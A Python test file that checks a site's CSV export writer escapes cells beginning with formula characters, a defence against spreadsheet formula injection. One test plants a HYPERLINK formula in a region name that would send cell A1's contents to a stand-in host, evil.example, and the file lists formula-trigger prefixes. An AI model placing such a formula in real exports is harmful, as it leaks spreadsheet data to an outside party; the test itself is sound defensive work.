"""Every CSV the site writes, one writer (issue 27): no cell opens as a formula in a
spreadsheet, on any of them — the barometer's tables escaped nothing before."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from incidents.exports import csvfile
from incidents.models import Region

from .factories import IncidentFactory

FORMULA = ("=", "+", "-", "@", "\t", "\r", "|", "%")


def read_back(line: str) -> list[str]:
    return next(csv.reader(io.StringIO(line)))


@given(st.lists(st.one_of(st.text(), st.integers(), st.none()), min_size=1, max_size=6))
def test_no_cell_written_opens_as_a_formula_and_plain_values_stay(values):
    line = csvfile.line_writer()(values)
    cells = read_back(line)
    assert len(cells) == len(values)
    for value, cell in zip(values, cells, strict=True):
        if isinstance(value, int):
            assert cell == str(value)  # numbers stay numbers, negative ones too
        elif value is None:
            assert cell == ""
        elif value[:1] in FORMULA and not value.lstrip("-").replace(".", "").isdigit():
            assert cell.startswith("'"), (value, cell)
        elif value and "\r" not in value:
            assert cell == value


def test_plain_text_negative_numbers_and_empty_cells_are_left_as_they_are():
    line = csvfile.line_writer()(["Plain = text", "", 42, -5, "-5", "Київ"])
    assert read_back(line) == ["Plain = text", "", "42", "-5", "-5", "Київ"]


@pytest.mark.django_db
@pytest.mark.parametrize("start", ["=", "+", "@", "-"])
def test_the_barometers_tables_write_a_place_name_formula_as_text(client, start):
    evil = f'{start}HYPERLINK("https://evil.example/?"&A1,"Kyiv")'
    Region.objects.filter(slug="kyiv").update(name_uk=evil, name_en=evil)
    IncidentFactory(region=Region.objects.get(slug="kyiv"))
    response = client.get("/stats/table/regions.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert f"'{evil}" in cells
    assert not any(cell.startswith(start) and "HYPERLINK" in cell for cell in cells)
